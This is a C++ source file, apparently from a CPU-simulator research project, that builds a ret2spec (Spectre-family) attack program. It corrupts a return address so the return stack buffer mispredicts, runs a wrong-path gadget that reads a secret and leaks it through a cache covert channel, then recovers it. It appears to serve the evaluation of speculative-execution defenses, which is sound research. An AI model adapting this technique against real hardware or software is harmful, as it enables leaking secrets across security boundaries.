/**
 * @file
 * ret2spec-style attack: the victim function's return address is
 * corrupted (stack-smash analog via the link register), so the RAS
 * predicts a return to the original call site while the actual return
 * goes elsewhere. The attacker arranges a transmit gadget at the
 * mispredicted location; it executes on the wrong path for as long as
 * the (slow) corrupted return address takes to resolve.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {
/** Cell holding the corrupted return address (flushed -> slow). */
constexpr Addr kRetSlot = kVictimBase + 0x800;
} // namespace

Program
Ret2Spec::build(std::uint8_t secret) const
{
    ProgramBuilder b("ret2spec");
    declareChannelSegments(b);
    b.segment(kSecretAddr, {secret});

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- victim function F ------------------------------------------------
    auto victim = b.label();
    b.movi(19, static_cast<std::int64_t>(kRetSlot));
    b.load(20, 19, 0, 8);            // corrupted return addr (slow)
    b.mov(30, 20);                   // overwrite the link register
    b.ret(30);                       // RAS predicts call-site + 1

    // --- recovery landing point E (the actual return target) -----------
    const Addr recover_pc = b.here();
    b.word(kRetSlot, recover_pc);
    emitCacheRecoverLoop(b);
    b.halt();

    // --- main ------------------------------------------------------------------
    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);
    emitProbeFlush(b);
    b.movi(1, static_cast<std::int64_t>(kRetSlot));
    b.clflush(1, 0);
    b.fence();
    b.call(30, victim);
    // Wrong-path gadget at the predicted return target: read the
    // secret and transmit it. Architecturally never reached.
    b.movi(9, static_cast<std::int64_t>(kSecretAddr));
    b.load(14, 9, 0, 1);             // (1) access
    emitCacheTransmit(b, 14);        // (2) transmit
    b.halt();                        // unreachable
    return b.build();
}

} // namespace nda
